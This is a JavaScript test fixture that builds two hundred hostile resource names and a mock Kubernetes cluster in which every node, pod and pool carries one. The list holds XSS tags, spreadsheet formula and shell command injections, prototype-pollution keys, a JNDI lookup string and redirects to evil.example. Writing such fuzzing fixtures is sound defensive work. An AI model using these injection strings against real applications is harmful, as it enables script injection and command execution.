// Two hundred hostile names, and a cluster in which every object has one.
import { existsSync, readFileSync } from "node:fs";
import { join } from "node:path";

const own = [
  "<script>window.pwned=1</script>", "</script><script>window.pwned=1</script>", "<img src=x onerror=window.pwned=1>", "\"><svg onload=window.pwned=1>",
  "' onmouseover='window.pwned=1", "<iframe src=javascript:window.pwned=1>", "javascript:window.pwned=1", "data:text/html,<script>window.pwned=1</script>",
  "<a href=\"javascript:window.pwned=1\">x</a>", "<style>*{display:none}</style>", "<base href=//evil.example/>", "<meta http-equiv=refresh content=0;url=//evil.example>",
  "<form action=//evil.example><button>x", "<!--", "-->", "<![CDATA[", "]]>", "</textarea>", "</title>", "&lt;b&gt;&amp;#x3c;", "{{constructor.constructor('window.pwned=1')()}}", "${window.pwned=1}",
  "=cmd|'/C calc'!A0", "=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", "=HYPERLINK(\"http://evil.example\",\"x\")", "a,b;c\td", "a\"b", "a\"\"b", "a\r\nb", "x\r\nSet-Cookie: a=b", "x\n0,0,a,b,c,d,e,f",
  "__proto__", "constructor", "prototype", "toString", "hasOwnProperty", "valueOf", "length", "then",
  "$(touch pwned)", "`touch pwned`", "; touch pwned", "| touch pwned", "&& touch pwned", "'; touch pwned; '", "a\n touch pwned", "a\\", "--help", "-o", "~", "*", "!!", "%s%n", "%PATH%", "a\u0000b", "\u0007\u001b[31m",
  "${jndi:ldap://evil.example}", "%{ for x in y }", "a: b", "- a", "# a", "&a *a", "!!python/object:os", "|", ">", "? a", "\u2028", "\u2029", "\u0085",
  "\u202eevil\u202c", "\u2066a\u2069", "\u200b", "a\u200bb", "\ufeff", "\u00ad", "e\u0301\u0301\u0301", "\u{1f468}\u200d\u{1f469}\u200d\u{1f467}", "\uffff",
  "../../etc/passwd", "/", "a/b", "CON", "a b", " a ", "null", "true", "0", "-0", "NaN", "1e999", "x".repeat(10_000), "\u0e01".repeat(3_000), "<".repeat(2_000),
];

const corpus = process.env.NODETIDE_CORPUS;
const list = corpus && join(corpus, "malformed", "strings", "blns_even.json");
const collected = list && existsSync(list) ? JSON.parse(readFileSync(list, "utf8")) : [];

/** Each once; the rest up to 200 are combinations of the own ones. */
export const names = (() => {
  const all = new Set([...own, ...collected]);
  all.delete("");
  for (let n = 0; all.size < 200; n += 1) all.add(`${own[n % own.length].slice(0, 200)}${own[(n * 7 + 3) % own.length].slice(0, 200)}${n}`);
  return [...all].slice(0, 200);
})();

/**
 * The files of a cluster whose every name is hostile: as the API describes it, and as kubectl prints it. The first pool,
 * which is upgraded, has a node of each name.
 */
export const cluster = (names) => {
  const version = "1.33.5-gke.1080000";
  const pool = (name) => ({ name, version, initialNodeCount: 1, locations: ["europe-west4-a"], config: { machineType: "e2-standard-4", labels: { [name]: name } }, upgradeSettings: { maxSurge: 20, strategy: "SURGE" } });
  const meta = (name, more) => ({ name, namespace: name, labels: { app: name, [name]: name }, annotations: { [name]: name }, ...more });
  const requests = { cpu: "100m", memory: "64Mi" };
  const spec = { containers: [{ name: "main", image: "registry.example/a:1", resources: { requests } }] };
  const objects = names.flatMap((name) => [
    {
      apiVersion: "v1", kind: "Node",
      metadata: { name, labels: { "cloud.google.com/gke-nodepool": names[0], "topology.kubernetes.io/zone": "europe-west4-a", [name]: name } },
      status: { allocatable: { cpu: "3920m", memory: "13Gi", pods: "110" }, conditions: [{ type: "Ready", status: "True" }], nodeInfo: { kubeletVersion: `v${version}` } },
    },
    { apiVersion: "apps/v1", kind: "StatefulSet", metadata: meta(name), spec: { replicas: 1, selector: { matchLabels: { app: name } }, template: { metadata: { labels: { app: name } }, spec } } },
    {
      apiVersion: "v1", kind: "Pod", metadata: meta(name, { ownerReferences: [{ apiVersion: "apps/v1", kind: "StatefulSet", name, uid: name, controller: true }] }),
      spec: { ...spec, nodeName: name }, status: { phase: "Running", conditions: [{ type: "Ready", status: "True" }] },
    },
    { apiVersion: "policy/v1", kind: "PodDisruptionBudget", metadata: meta(name), spec: { maxUnavailable: 1, selector: { matchLabels: { app: name } } } },
  ]);
  const described = { name: names[0], location: "europe-west4-a", locations: ["europe-west4-a"], currentMasterVersion: "1.34.1-gke.2037000", nodePools: names.map(pool) };
  return { described: JSON.stringify(described), objects: JSON.stringify({ apiVersion: "v1", kind: "List", items: objects }) };
};
